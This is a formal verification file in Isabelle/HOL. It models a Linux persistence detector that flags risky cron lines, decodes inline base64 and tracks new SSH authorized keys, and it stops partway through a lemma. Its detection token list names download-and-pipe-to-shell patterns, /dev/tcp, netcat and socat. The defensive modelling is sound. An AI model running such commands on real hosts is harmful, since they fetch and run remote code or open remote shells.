(* ===== verification/GC_Cron.thy ===== *)
theory GC_Cron
  imports GC_Persist
begin

text \<open>
  The two detectors of \<^verbatim>\<open>detect/persistence\<close> that remember lines (\<^verbatim>\<open>cron.go\<close> and the authorized keys of
  \<^verbatim>\<open>persistence.go\<close>), the entry point \<^verbatim>\<open>Scan\<close>, and what the \<^verbatim>\<open>baseline commit\<close> command records for them.
  The parser of OpenSSH keys is the argument \<open>parseKey\<close>: the fingerprint of a line that holds a key.
\<close>

section \<open>Cron lines\<close>

definition RuleCronHighRisk :: string where "RuleCronHighRisk = ''CRON_HIGH_RISK''"

definition standaloneCronFiles :: "string list" where
  "standaloneCronFiles = [''/etc/crontab'', ''/etc/anacrontab'']"

definition cronDirs :: "string list" where
  "cronDirs = [''/etc/cron.d'', ''/etc/cron.hourly'', ''/etc/cron.daily'', ''/etc/cron.weekly'', ''/etc/cron.monthly'',
     ''/var/spool/cron/crontabs'', ''/var/spool/cron'', ''/var/spool/anacron'', ''/var/spool/atjobs'', ''/var/spool/at'',
     ''/var/spool/cron/atjobs'']"

definition cronRiskTokens :: "string list" where
  "cronRiskTokens = [''curl '', '' wget '', ''curl -s'', ''wget -q'', ''| bash'', ''|sh '', ''| sh'', ''| /bin/'', ''| dash'',
     ''bash -c'', ''/bin/bash -c'', ''/bin/sh -c'', ''dash -c'', ''zsh -c'',
     ''base64 -d'', ''base64 --decode'', ''openssl enc -'', ''xxd -r'',
     ''python -c'', ''python3 -c'', ''perl -e'', ''ruby -e'', ''php -r'',
     ''/dev/tcp/'', ''socat '', '' nc -'', '' ncat '', '' netcat '',
     ''chmod +x'', ''chattr +i'', ''iptables -I'', ''eval '',
     ''http://'', ''https://'']"

definition is_quote :: "char \<Rightarrow> bool" where
  "is_quote c \<longleftrightarrow> c = CHR 0x27 \<or> c = CHR 0x22"

text \<open>\<^verbatim>\<open>strings.ReplaceAll\<close> of a backslash before a line break by a blank.\<close>

fun join_continued :: "string \<Rightarrow> string" where
  "join_continued [] = []"
| "join_continued [c] = [c]"
| "join_continued (c # d # s) =
     (if c = CHR 0x5C \<and> d = CHR 0x0A then CHR '' '' # join_continued s else c # join_continued (d # s))"

subsection \<open>Inline base64\<close>

definition is_b64 :: "char \<Rightarrow> bool" where
  "is_b64 c \<longleftrightarrow> is_upper c \<or> is_lower c \<or> is_digit c \<or> c = CHR ''+'' \<or> c = CHR ''/''"

text \<open>The matches of \<^verbatim>\<open>[A-Za-z0-9+/]{16,}={0,2}\<close>, from left to right.\<close>

function b64_blobs :: "string \<Rightarrow> string list" where
  "b64_blobs [] = []"
| "b64_blobs (c # s) =
     (if is_b64 c then
        (let run = takeWhile is_b64 (c # s); rest = dropWhile is_b64 (c # s);
             pad = takeWhile (\<lambda>d. d = CHR ''='') (take 2 rest)
         in if 16 \<le> length run then (run @ pad) # b64_blobs (drop (length pad) rest) else b64_blobs rest)
      else b64_blobs s)"
  by pat_completeness auto

termination b64_blobs
  by (relation "measure length") (auto simp: length_dropWhile_le le_imp_less_Suc intro: le_less_trans [OF diff_le_self])

definition b64_val :: "char \<Rightarrow> nat option" where
  "b64_val c =
     (if is_upper c then Some (byte c - 65) else if is_lower c then Some (byte c - 71)
      else if is_digit c then Some (byte c + 4) else if c = CHR ''+'' then Some 62 else if c = CHR ''/'' then Some 63 else None)"

text \<open>\<^verbatim>\<open>base64.StdEncoding.DecodeString\<close> for text without line breaks.\<close>

fun b64_decode :: "string \<Rightarrow> string option" where
  "b64_decode [] = Some []"
| "b64_decode (a # b # c # d # s) =
     (case (b64_val a, b64_val b) of
        (Some x, Some y) \<Rightarrow>
          (if c = CHR ''='' then (if d = CHR ''='' \<and> s = [] then Some [char_of (x * 4 + y div 16)] else None)
           else
             (case b64_val c of
                None \<Rightarrow> None
              | Some z \<Rightarrow>
                  (if d = CHR ''=''
                   then (if s = [] then Some [char_of (x * 4 + y div 16), char_of (y mod 16 * 16 + z div 4)] else None)
                   else
                     (case (b64_val d, b64_decode s) of
                        (Some w, Some t) \<Rightarrow>
                          Some (char_of (x * 4 + y div 16) # char_of (y mod 16 * 16 + z div 4) # char_of (z mod 4 * 64 + w) # t)
                      | _ \<Rightarrow> None))))
      | _ \<Rightarrow> None)"
| "b64_decode _ = None"

text \<open>More than four fifths of the bytes are printable; the quotient of the code is exact enough to decide it.\<close>

definition looksPrintable :: "string \<Rightarrow> bool" where
  "looksPrintable s \<longleftrightarrow>
     s \<noteq> [] \<and> 4 * length s < 5 * length (filter (\<lambda>c. c = CHR 0x0A \<or> c = CHR 0x09 \<or> 0x20 \<le> byte c \<and> byte c < 0x7F) s)"

fun recursiveBase64Decode :: "nat \<Rightarrow> string \<Rightarrow> string" where
  "recursiveBase64Decode 0 s = s"
| "recursiveBase64Decode (Suc depth) s =
     s @ concat (map (\<lambda>m. if length m < 16 then []
           else case b64_decode m of
                  None \<Rightarrow> []
                | Some ds \<Rightarrow> if looksPrintable ds then '' '' @ recursiveBase64Decode depth (ToLower ds) else [])
         (b64_blobs s))"

subsection \<open>Risk\<close>

definition normalizeCronLine :: "string \<Rightarrow> string" where
  "normalizeCronLine line =
     '' '' @ recursiveBase64Decode 3 (join_continued (filter (\<lambda>c. \<not> is_quote c) (ToLower line))) @ '' ''"

definition cronRisk :: "string \<Rightarrow> bool \<times> string" where
  "cronRisk normalized =
     (case find (Contains normalized) cronRiskTokens of None \<Rightarrow> (False, []) | Some tok \<Rightarrow> (True, TrimSpace tok))"

definition EvalCronLine :: "string \<Rightarrow> bool" where
  "EvalCronLine line = fst (cronRisk (normalizeCronLine line))"

subsection \<open>The scan\<close>

definition cronLineFingerprint :: "(string \<Rightarrow> string) \<Rightarrow> string \<Rightarrow> string \<Rightarrow> string" where
  "cronLineFingerprint h path line = h (path @ [CHR 0x00] @ line)"

definition collectCronTargets :: "host \<Rightarrow> string list" where
  "collectCronTargets H =
     filter (\<lambda>f. case hs_stat H f of None \<Rightarrow> False | Some st \<Rightarrow> \<not> fi_IsDir st) standaloneCronFiles @
     concat (map (\<lambda>d. case hs_readdir H d of
        None \<Rightarrow> []
      | Some ents \<Rightarrow> map (\<lambda>e. PathJoin [d, fst e]) (filter (\<lambda>e. \<not> snd e) ents)) cronDirs)"

text \<open>The scanner of the cron detector takes lines of up to a mebibyte.\<close>

definition cron_limit :: nat where "cron_limit = 1024 * 1024"

definition cron_lines :: "string \<Rightarrow> string list" where
  "cron_lines b =
     filter (\<lambda>l. l \<noteq> [] \<and> \<not> HasPrefix l ''#'')
       (map (TrimSpace \<circ> drop_cr) (takeWhile (\<lambda>l. length l < cron_limit) (raw_lines b)))"

definition known_lines :: "(string, string list) gomap option \<Rightarrow> string \<Rightarrow> string list" where
  "known_lines m p = (case m of None \<Rightarrow> [] | Some m \<Rightarrow> gget [] m p)"

definition cron_signals :: "string \<Rightarrow> string list" where
  "cron_signals line =
     (let normalized = normalizeCronLine line; (risk, tok) = cronRisk normalized
      in [''new_cron_line''] @ (if risk then [''high_risk_token:'' @ tok] else []) @
         (if Contains normalized ''base64'' \<and> Contains normalized ''-d'' then [''inline_base64_decoded''] else []))"

definition cron_event ::
  "(string \<Rightarrow> string) \<Rightarrow> time \<Rightarrow> Config \<Rightarrow> Pack \<Rightarrow> string \<Rightarrow> Snapshot \<Rightarrow> string \<Rightarrow> string \<Rightarrow> Event" where
  "cron_event h now cfg pack agentVer s fpath line =
     (let sigs = cron_signals line; score = fst (Score pack RuleCronHighRisk sigs);
          learning = learning_for cfg s; risk = EvalCronLine line;
          conf = (if risk then score else min score 40)
      in NormalizeDedup h (zero_Event\<lparr>
           ev_SchemaVersion := SchemaVersion, ev_AgentVersion := agentVer, ev_Timestamp := now,
           ev_RuleID := RuleCronHighRisk, ev_RulePackVersion := pack_Version pack,
           ev_TechniqueIDs := [''T1053.003''], ev_Tactic := ''persistence'',
           ev_Entity := \<lparr>ent_Type = EntityCron, ent_ID = cronLineFingerprint h fpath line, ent_Path = fpath, ent_User = []\<rparr>,
           ev_Signals := sigs, ev_Evidence := truncate_to line 200, ev_Confidence := conf,
           ev_Severity := (if risk then SeverityFromConfidence conf learning else SeverityInfo),
           ev_LearningOnly := (if risk then learning \<or> conf < cfg_MinConfidenceAlert cfg else True)\<rparr>))"

definition new_cron_lines :: "(string \<Rightarrow> string) \<Rightarrow> host \<Rightarrow> Snapshot \<Rightarrow> string \<Rightarrow> string list" where
  "new_cron_lines h H s fpath =
     (case hs_read H fpath of
        None \<Rightarrow> []
      | Some b \<Rightarrow> filter (\<lambda>l. cronLineFingerprint h fpath l \<notin> set (known_lines (sn_CronLines s) fpath)) (cron_lines b))"

definition scanCron :: "(string \<Rightarrow> string) \<Rightarrow> time \<Rightarrow> Config \<Rightarrow> Pack \<Rightarrow> string \<Rightarrow> host \<Rightarrow> Snapshot \<Rightarrow> Event list" where
  "scanCron h now cfg pack agentVer H s =
     concat (map (\<lambda>f. map (cron_event h now cfg pack agentVer s f) (new_cron_lines h H s f)) (collectCronTargets H))"

definition cron_prints :: "(string \<Rightarrow> string) \<Rightarrow> host \<Rightarrow> string \<Rightarrow> string list option" where
  "cron_prints h H fpath =
     (case hs_read H fpath of
        None \<Rightarrow> None
      | Some b \<Rightarrow> (let fps = map (cronLineFingerprint h fpath) (cron_lines b) in if fps = [] then None else Some fps))"

definition BuildBaselineCron :: "(string \<Rightarrow> string) \<Rightarrow> host \<Rightarrow> Snapshot \<Rightarrow> Snapshot" where
  "BuildBaselineCron h H s =
     s\<lparr>sn_CronLines := map_option (record_all (cron_prints h H) (collectCronTargets H)) (sn_CronLines s)\<rparr>"

section \<open>Authorized keys\<close>

definition RuleAuthKeyNew :: string where "RuleAuthKeyNew = ''SSH_AUTHKEY_NEW''"
definition RuleAuthKeyAnomaly :: string where "RuleAuthKeyAnomaly = ''SSH_AUTHKEY_INVALID_LINE''"

definition keys_path :: "passwdEntry \<Rightarrow> string" where
  "keys_path u = PathJoin [pw_dir u, ''.ssh'', ''authorized_keys'']"

definition interactive :: "passwdEntry \<Rightarrow> bool" where
  "interactive u \<longleftrightarrow> pw_dir u \<noteq> [] \<and> pw_shell u \<noteq> ''/usr/sbin/nologin'' \<and> pw_shell u \<noteq> ''/bin/false''"

definition AuthorizedKeysPaths :: "host \<Rightarrow> string list" where
  "AuthorizedKeysPaths H = map keys_path (filter interactive (passwdUsers H))"

definition numbered_lines :: "string \<Rightarrow> (nat \<times> string) list" where
  "numbered_lines b =
     filter (\<lambda>(n, l). l \<noteq> [] \<and> \<not> HasPrefix l ''#'') (List.enumerate 1 (map TrimSpace (scan_lines b)))"

definition key_event ::
  "(string \<Rightarrow> string) \<Rightarrow> time \<Rightarrow> Config \<Rightarrow> Pack \<Rightarrow> string \<Rightarrow> bool \<Rightarrow> string \<Rightarrow> string \<Rightarrow> string \<Rightarrow> string \<Rightarrow> string list \<Rightarrow> string \<Rightarrow> Event" where
  "key_event h now cfg pack agentVer learning ruleID ident user path sigs evidence =
     (let conf = fst (Score pack ruleID sigs)
      in NormalizeDedup h (zero_Event\<lparr>
           ev_SchemaVersion := SchemaVersion, ev_AgentVersion := agentVer, ev_Timestamp := now,
           ev_RuleID := ruleID, ev_RulePackVersion := pack_Version pack,
           ev_TechniqueIDs := [''T1098.004''], ev_Tactic := ''persistence'', ev_Confidence := conf,
           ev_Severity := SeverityFromConfidence conf learning,
           ev_Entity := \<lparr>ent_Type = EntityUser, ent_ID = ident, ent_Path = path, ent_User = user\<rparr>,
           ev_Signals := sigs, ev_Evidence := evidence,
           ev_LearningOnly := learning \<or> conf < cfg_MinConfidenceAlert cfg\<rparr>))"

definition look_key ::
  "(string \<Rightarrow> string) \<Rightarrow> (string \<Rightarrow> string option) \<Rightarrow> time \<Rightarrow> Config \<Rightarrow> Pack \<Rightarrow> string \<Rightarrow> host \<Rightarrow> Snapshot \<Rightarrow> passwdEntry \<Rightarrow> nat \<times> string \<Rightarrow> Event option" where
  "look_key h parseKey now cfg pack agentVer H s u nl =
     (case nl of (lineNo, line) \<Rightarrow>
        (case parseKey line of
           None \<Rightarrow> Some (key_event h now cfg pack agentVer (learning_for cfg s) RuleAuthKeyAnomaly (pw_name u) (pw_name u)
                    (keys_path u) [''invalid_openssh_line''] (truncate_to line 120))
         | Some fp \<Rightarrow>
             if fp \<in> set (known_lines (sn_AuthKeys s) (keys_path u)) then None
             else Some (key_event h now cfg pack agentVer (learning_for cfg s) RuleAuthKeyNew (pw_name u @ '':'' @ fp) (pw_name u)
                    (keys_path u)
                    ([''new_authorized_key_fingerprint''] @
                     (if pw_name u = ''root'' \<or> inSudoGroup H (pw_name u) then [''privileged_user''] else []))
                    (''fingerprint:'' @ fp @ '' line:'' @ Itoa (int lineNo)))))"

definition scanAuthorizedKeys ::
  "(string \<Rightarrow> string) \<Rightarrow> (string \<Rightarrow> string option) \<Rightarrow> time \<Rightarrow> Config \<Rightarrow> Pack \<Rightarrow> string \<Rightarrow> host \<Rightarrow> Snapshot \<Rightarrow> Event list" where
  "scanAuthorizedKeys h parseKey now cfg pack agentVer H s =
     concat (map (\<lambda>u. if \<not> interactive u \<or> \<not> exists_on H (keys_path u) then []
        else case hs_read H (keys_path u) of
               None \<Rightarrow> []
             | Some b \<Rightarrow> List.map_filter (look_key h parseKey now cfg pack agentVer H s u) (numbered_lines b))
       (passwdUsers H))"

definition key_prints :: "(string \<Rightarrow> string option) \<Rightarrow> host \<Rightarrow> string \<Rightarrow> string list option" where
  "key_prints parseKey H p =
     (case hs_read H p of
        None \<Rightarrow> None
      | Some b \<Rightarrow> (let fps = List.map_filter parseKey (content_lines b) in if fps = [] then None else Some fps))"

definition BuildBaselineAuthKeys :: "(string \<Rightarrow> string option) \<Rightarrow> host \<Rightarrow> Snapshot \<Rightarrow> Snapshot" where
  "BuildBaselineAuthKeys parseKey H s =
     s\<lparr>sn_AuthKeys := map_option (record_all (key_prints parseKey H)
         (map keys_path (filter (\<lambda>u. pw_dir u \<noteq> []) (passwdUsers H)))) (sn_AuthKeys s)\<rparr>"

section \<open>The persistence scan\<close>

text \<open>None of the detectors fails: the error paths of \<^verbatim>\<open>Scan\<close> cannot be taken.\<close>

definition persistence_Scan ::
  "(string \<Rightarrow> string) \<Rightarrow> (string \<Rightarrow> string option) \<Rightarrow> time \<Rightarrow> Config \<Rightarrow> Pack \<Rightarrow> string \<Rightarrow> host \<Rightarrow> Snapshot \<Rightarrow> Event list" where
  "persistence_Scan h parseKey now cfg pack agentVer H s =
     scanAuthorizedKeys h parseKey now cfg pack agentVer H s @ scanCron h now cfg pack agentVer H s @
     scanSystemdUnits h now cfg pack agentVer H s @ scanShellRC h now cfg pack agentVer H s @
     scanPAM h now cfg pack agentVer H s @ scanSudoers h now cfg pack agentVer H s @
     scanSSHD h now cfg pack agentVer H s @ scanUsers h now cfg pack agentVer H s @
     scanKernelModules h now cfg pack agentVer H s @ scanLDConf h now cfg pack agentVer H s"

text \<open>The part of \<^verbatim>\<open>baselineCommit\<close> that concerns this package, and the commit time.\<close>

definition commit_persistence :: "(string \<Rightarrow> string) \<Rightarrow> (string \<Rightarrow> string option) \<Rightarrow> time \<Rightarrow> host \<Rightarrow> Snapshot \<Rightarrow> Snapshot" where
  "commit_persistence h parseKey now H s =
     (BuildBaselineLDConf h H (BuildBaselineKernelModules h H (BuildBaselineUsers h H (BuildBaselineSSHD h H
       (BuildBaselineSudoers h H (BuildBaselineShellRC h H (BuildBaselinePAM h H (BuildBaselineSystemd h H
         (BuildBaselineCron h H (BuildBaselineAuthKeys parseKey H s))))))))))\<lparr>sn_CommittedAt := now\<rparr>"

section \<open>What cannot hide a cron line\<close>

lemma is_quote_lower [simp]: "is_quote (lower_char c) = is_quote c"
proof (cases "is_upper c")
  case True
  have "\<not> is_quote c" using True by (auto simp: is_quote_def is_upper_def)
  moreover have "\<not> is_quote (lower_char c)"
  proof
    assume "is_quote (lower_char c)"
    then have "byte (lower_char c) < 60" by (auto simp: is_quote_def)
    then show False using True by (simp add: lower_char_def is_upper_def)
  qed
  ultimately show ?thesis by simp
qed (simp add: lower_char_def)

lemma filter_quotes_lower: "filter (\<lambda>c. \<not> is_quote c) (ToLower s) = ToLower (filter (\<lambda>c. \<not> is_quote c) s)"
  by (simp add: ToLower_def filter_map o_def)

text \<open>Neither case nor quoting changes what the risk check sees.\<close>

lemma normalize_case_quotes:
  "ToLower (filter (\<lambda>c. \<not> is_quote c) l) = ToLower (filter (\<lambda>c. \<not> is_quote c) l') \<Longrightarrow> normalizeCronLine l = normalizeCronLine l'"
  by (simp add: normalizeCronLine_def filter_quotes_lower)

section \<open>Recording\<close>

lemma known_record_all:
  "m \<noteq> None \<Longrightarrow> known_lines (map_option (record_all f ks) m) q =
     (if q \<in> set ks \<and> f q \<noteq> None then the (f q) else known_lines m q)"
  by (auto simp: known_lines_def gget_def map_of_record_all split: option.splits)

lemma record_files_append: "record_files h H ys (record_files h H xs s) = record_files h H (xs @ ys) s"
  by (simp add: record_files_def recordPersistenceBaseline_def option.map_comp o_def)

lemma fold_record_files: "fold (\<lambda>d. record_files h H (f d)) ds s = record_files h H (concat (map f ds)) s"
proof (induction ds arbitrary: s)
  case Nil
  show ?case by (simp add: record_files_def recordPersistenceBaseline_def option.map_id0)
qed (simp add: record_files_append)

text \<open>The files the commit records, and the files the scan compares with them.\<close>

definition recorded_files :: "host \<Rightarrow> string list" where
  "recorded_files H = systemd_targets H @ collectPAMTargets H @ collectShellRCTargets H @ collectSudoersTargets H @
     collectSSHDTargets H @ userFiles @ collectModuleConfigTargets H @ collectLDConfTargets H"

definition watched_files :: "host \<Rightarrow> string list" where
  "watched_files H = systemd_targets H @ collectShellRCTargets H @ collectPAMTargets H @ collectSudoersTargets H @
     collectSSHDTargets H @ user_targets H @ collectModuleConfigTargets H @ collectLDConfTargets H"

lemma record_files_fields [simp]:
  "sn_AuthKeys (record_files h H ps s) = sn_AuthKeys s" "sn_CronLines (record_files h H ps s) = sn_CronLines s"
  "sn_LoadedKernelModules (record_files h H ps s) = sn_LoadedKernelModules s"
  "sn_PersistenceFiles (record_files h H ps s) = recordPersistenceBaseline h H ps (sn_PersistenceFiles s)"
  by (simp_all add: record_files_def)

lemmas commit_defs = commit_persistence_def BuildBaselineLDConf_def BuildBaselineKernelModules_def BuildBaselineUsers_def
  BuildBaselineSSHD_def BuildBaselineSudoers_def BuildBaselineShellRC_def BuildBaselinePAM_def BuildBaselineSystemd_def
  fold_record_files BuildBaselineCron_def BuildBaselineAuthKeys_def

lemma recordPersistenceBaseline_append:
  "recordPersistenceBaseline h H ys (recordPersistenceBaseline h H xs m) = recordPersistenceBaseline h H (xs @ ys) m"
  by (simp add: recordPersistenceBaseline_def option.map_comp o_def)

lemma commit_fields:
  "sn_PersistenceFiles (commit_persistence h pk t H s) = recordPersistenceBaseline h H (recorded_files H) (sn_PersistenceFiles s)"
  "sn_CronLines (commit_persistence h pk t H s) =
     map_option (record_all (cron_prints h H) (collectCronTargets H)) (sn_CronLines s)"
  "sn_AuthKeys (commit_persistence h pk t H s) =
     map_option (record_all (key_prints pk H) (map keys_path (filter (\<lambda>u. pw_dir u \<noteq> []) (passwdUsers H)))) (sn_AuthKeys s)"
  "sn_LoadedKernelModules (commit_persistence h pk t H s) = readLoadedModules H"
  "sn_CommittedAt (commit_persistence h pk t H s) = t"
  by (simp_all add: commit_defs recorded_files_def systemd_targets_def recordPersistenceBaseline_append)

lemma commit_known:
  assumes "sn_PersistenceFiles s \<noteq> None"
  shows "known_file (commit_persistence h pk t H s) p =
    (if p \<in> set (recorded_files H) \<and> fileSHA h H p \<noteq> [] then Some (fileSHA h H p) else known_file s p)"
  using known_record [OF assms, of h H "recorded_files H" p] by (simp add: known_file_def commit_fields)

lemma commit_covers:
  assumes "sn_PersistenceFiles s \<noteq> None" "set ps \<subseteq> set (recorded_files H)"
  shows "covers h H (commit_persistence h pk t H s) ps"
  using assms by (auto simp: covers_def file_changed_def commit_known)

lemma watched_recorded: "set (watched_files H) \<subseteq> set (recorded_files H)"
  by (auto simp: watched_files_def recorded_files_def user_targets_def)

section \<open>The whole scan\<close>

text \<open>The file watchers together are one watcher.\<close>

definition file_scans ::
  "(string \<Rightarrow> string) \<Rightarrow> time \<Rightarrow> Config \<Rightarrow> Pack \<Rightarrow> string \<Rightarrow> host \<Rightarrow> Snapshot \<Rightarrow> Event list" where
  "file_scans h now cfg pack agentVer H s =
     scanSystemdUnits h now cfg pack agentVer H s @ scanShellRC h now cfg pack agentVer H s @
     scanPAM h now cfg pack agentVer H s @ scanSudoers h now cfg pack agentVer H s @
     scanSSHD h now cfg pack agentVer H s @ scanUsers h now cfg pack agentVer H s @
     scanKernelModules h now cfg pack agentVer H s @ scanLDConf h now cfg pack agentVer H s"

lemma Scan_parts:
  "persistence_Scan h pk now cfg pack v H s =
     scanAuthorizedKeys h pk now cfg pack v H s @ scanCron h now cfg pack v H s @ file_scans h now cfg pack v H s"
  by (simp add: persistence_Scan_def file_scans_def)

interpretation file_scans: watcher h watched_files "file_scans h now cfg pack agentVer" change_marks
  for h now cfg pack agentVer
  unfolding watched_files_def [abs_def] file_scans_def [abs_def]
  by (intro watcher_append systemd.watcher_axioms shellrc.watcher_axioms pam.watcher_axioms sudoers.watcher_axioms
      sshd.watcher_axioms users.watcher_axioms kmod.watcher_axioms ldconf.watcher_axioms)

text \<open>Right after a commit, on an unchanged host, no cron line and no key is new.\<close>

lemma cron_quiet:
  assumes "sn_CronLines s \<noteq> None" "f \<in> set (collectCronTargets H)"
  shows "new_cron_lines h H (commit_persistence h pk t H s) f = []"
proof (cases "hs_read H f")
  case (Some b)
  have k: "known_lines (sn_CronLines (commit_persistence h pk t H s)) f =
      (if cron_prints h H f \<noteq> None then the (cron_prints h H f) else known_lines (sn_CronLines s) f)"
    using assms by (simp add: commit_fields known_record_all)
  show ?thesis
  proof (cases "cron_lines b = []")
    case False
    then have "cron_prints h H f = Some (map (cronLineFingerprint h f) (cron_lines b))" by (simp add: cron_prints_def Some Let_def)
    then show ?thesis by (simp add: new_cron_lines_def Some k)
  qed (simp add: new_cron_lines_def Some)
qed (simp add: new_cron_lines_def)

lemma scanCron_quiet:
  assumes "sn_CronLines s \<noteq> None"
  shows "scanCron h now cfg pack v H (commit_persistence h pk t H s) = []"
  using cron_quiet [OF assms] by (simp add: scanCron_def)

lemma numbered_content: "(n, l) \<in> set (numbered_lines b) \<Longrightarrow> l \<in> set (content_lines b)"
  by (auto simp: numbered_lines_def content_lines_def in_set_enumerate_eq)

lemma keys_quiet:
  assumes "sn_AuthKeys s \<noteq> None" "u \<in> set (passwdUsers H)" "interactive u" "hs_read H (keys_path u) = Some b"
    and "nl \<in> set (numbered_lines b)" "look_key h pk now cfg pack v H (commit_persistence h pk t H s) u nl = Some e"
  shows "ev_RuleID e = RuleAuthKeyAnomaly \<and> ev_Signals e = [''invalid_openssh_line'']"
proof -
  obtain n l where nl: "nl = (n, l)" by (cases nl)
  have l: "l \<in> set (content_lines b)" using assms(5) numbered_content by (simp add: nl)
  have p: "keys_path u \<in> set (map keys_path (filter (\<lambda>u. pw_dir u \<noteq> []) (passwdUsers H)))"
    using assms(2,3) by (auto simp: interactive_def)
  show ?thesis
  proof (cases "pk l")
    case None
    then show ?thesis using assms(6) by (auto simp: look_key_def nl key_event_def Let_def zero_Event_def)
  next
    case (Some fp)
    have fps: "fp \<in> set (List.map_filter pk (content_lines b))" using l Some by (auto simp: map_filter_def intro!: image_eqI)
    then have "key_prints pk H (keys_path u) = Some (List.map_filter pk (content_lines b))"
      by (auto simp: key_prints_def assms(4) Let_def)
    then have "known_lines (sn_AuthKeys (commit_persistence h pk t H s)) (keys_path u) = List.map_filter pk (content_lines b)"
      using known_record_all [OF assms(1), of "key_prints pk H" _ "keys_path u"] p by (simp add: commit_fields)
    then show ?thesis using assms(6) fps by (simp add: look_key_def nl Some)
  qed
qed

lemma scanAuthorizedKeys_quiet:
  assumes "sn_AuthKeys s \<noteq> None" "e \<in> set (scanAuthorizedKeys h pk now cfg pack v H (commit_persistence h pk t H s))"
  shows "ev_RuleID e = RuleAuthKeyAnomaly \<and> ev_Signals e = [''invalid_openssh_line'']"
proof -
  obtain u b nl where "u \<in> set (passwdUsers H)" "interactive u" "hs_read H (keys_path u) = Some b"
    "nl \<in> set (numbered_lines b)" "look_key h pk now cfg pack v H (commit_persistence h pk t H s) u nl = Some e"
    using assms(2) by (auto simp: scanAuthorizedKeys_def map_filter_Some split: if_splits option.splits) (metis surj_pair)
  then show ?thesis by (rule keys_quiet [OF assms(1)])
qed

text \<open>An event that claims that the host differs from the baseline.\<close>

definition states_change :: "Event \<Rightarrow> bool" where
  "states_change e \<longleftrightarrow> ev_RuleID e \<in> {RuleAuthKeyNew, RuleCronHighRisk, RuleKmodNew} \<or> set (ev_Signals e) \<inter> set change_marks \<noteq> {}"

lemmas rule_names = RuleAuthKeyNew_def RuleAuthKeyAnomaly_def RuleCronHighRisk_def RuleKmodNew_def RuleModLoadPathMod_def
  RuleSystemdPersistence_def RuleShellRCPersistence_def RulePAMPersistence_def RuleSudoersPersistence_def RuleSSHDConfig_def
  RuleUserPersistence_def RuleUserShellEnabled_def RuleUserPasswdHash_def RuleLDConfPersistence_def

lemma file_finding_ok:
  assumes "r \<in> set rules" "sigs \<noteq> []"
  shows "finding_ok h pack v rules (NormalizeDedup h (file_finding now cfg pack v l r ts ta hash path sigs evi))"
    "finding_ok h pack v rules (NormalizeDedup h ((file_finding now cfg pack v l r ts ta hash path sigs evi)\<lparr>ev_Src := sr, ev_Type := ty\<rparr>))"
  using assms by (auto intro!: finding_okI simp: file_finding_def Let_def zero_Event_def Score_le_100)

definition file_rules :: "string list" where
  "file_rules = [RuleSystemdPersistence, RuleShellRCPersistence, RulePAMPersistence, RuleSudoersPersistence, RuleSSHDConfig,
     RuleUserPersistence, RuleUserShellEnabled, RuleUserPasswdHash, RuleModLoadPathMod, RuleLDConfPersistence]"

lemma user_class_ok: "fst (user_class H p) \<in> set file_rules \<and> snd (user_class H p) \<noteq> []"
  by (simp add: user_class_def Let_def file_rules_def)

lemma look_ok:
  "evaluateSystemdUnit h now cfg pack v H s p = Some e \<Longrightarrow> finding_ok h pack v file_rules e"
  "look_shellrc h now cfg pack v H s p = Some e \<Longrightarrow> finding_ok h pack v file_rules e"
  "look_pam h now cfg pack v H s p = Some e \<Longrightarrow> finding_ok h pack v file_rules e"
  "look_sudoers h now cfg pack v H s p = Some e \<Longrightarrow> finding_ok h pack v file_rules e"
  "look_sshd h now cfg pack v H s p = Some e \<Longrightarrow> finding_ok h pack v file_rules e"
  "look_user h now cfg pack v H s p = Some e \<Longrightarrow> finding_ok h pack v file_rules e"
  "look_kmod h now cfg pack v H s p = Some e \<Longrightarrow> finding_ok h pack v file_rules e"
  "look_ldconf h now cfg pack v H s p = Some e \<Longrightarrow> finding_ok h pack v file_rules e"
  using user_class_ok [of H p]
  by (auto simp: evaluateSystemdUnit_def look_shellrc_def look_pam_def look_sudoers_def look_sshd_def look_user_def look_kmod_def
      look_ldconf_def Let_def split_beta file_rules_def intro!: file_finding_ok split: option.splits if_splits)

lemma scans_ok:
  "e \<in> set (scanSystemdUnits h now cfg pack v H s) \<Longrightarrow> finding_ok h pack v file_rules e"
  "e \<in> set (scanShellRC h now cfg pack v H s) \<Longrightarrow> finding_ok h pack v file_rules e"
  "e \<in> set (scanPAM h now cfg pack v H s) \<Longrightarrow> finding_ok h pack v file_rules e"
  "e \<in> set (scanSudoers h now cfg pack v H s) \<Longrightarrow> finding_ok h pack v file_rules e"
  "e \<in> set (scanSSHD h now cfg pack v H s) \<Longrightarrow> finding_ok h pack v file_rules e"
  "e \<in> set (scanLDConf h now cfg pack v H s) \<Longrightarrow> finding_ok h pack v file_rules e"
  by (auto simp: scanSystemdUnits_def scanShellRC_def scanPAM_def scanSudoers_def scanSSHD_def scanLDConf_def map_filter_Some
      dest: look_ok)

lemma detectUIDZero_ok: "e \<in> set (detectUIDZero h now pack v H) \<Longrightarrow> finding_ok h pack v file_rules e"
  by (auto simp: detectUIDZero_def uid_zero_event_def zero_Event_def Let_def file_rules_def floored_le intro!: finding_okI)

lemma scanUsers_ok: "e \<in> set (scanUsers h now cfg pack v H s) \<Longrightarrow> finding_ok h pack v file_rules e"
  by (auto simp: scanUsers_def map_filter_Some dest: detectUIDZero_ok look_ok)

lemma scanKernelModules_ok:
  assumes "e \<in> set (scanKernelModules h now cfg pack v H s)"
  shows "finding_ok h pack v file_rules e \<or> finding_ok h pack v [RuleKmodNew] e \<and> new_modules H s \<noteq> []"
  using assms by (auto simp: scanKernelModules_def map_filter_Some kmod_event_def zero_Event_def Let_def floored_le
      intro: finding_okI look_ok split: if_splits)

lemma file_scans_ok:
  assumes "e \<in> set (file_scans h now cfg pack v H s)"
  shows "finding_ok h pack v file_rules e \<or> finding_ok h pack v [RuleKmodNew] e \<and> new_modules H s \<noteq> []"
  using assms unfolding file_scans_def by (auto dest: scans_ok scanUsers_ok scanKernelModules_ok)

lemma finding_ok_mono: "finding_ok h pack v rs e \<Longrightarrow> set rs \<subseteq> set rs' \<Longrightarrow> finding_ok h pack v rs' e"
  by (auto simp: finding_ok_def)

definition persistence_rules :: "string list" where
  "persistence_rules = [RuleAuthKeyNew, RuleAuthKeyAnomaly, RuleCronHighRisk, RuleKmodNew] @ file_rules"

lemma cron_event_fields:
  "ev_RuleID (cron_event h now cfg pack v s f l) = RuleCronHighRisk"
  "ev_Entity (cron_event h now cfg pack v s f l) =
     \<lparr>ent_Type = EntityCron, ent_ID = cronLineFingerprint h f l, ent_Path = f, ent_User = []\<rparr>"
  "ev_LearningOnly (cron_event h now cfg pack v s f l) \<longleftrightarrow>
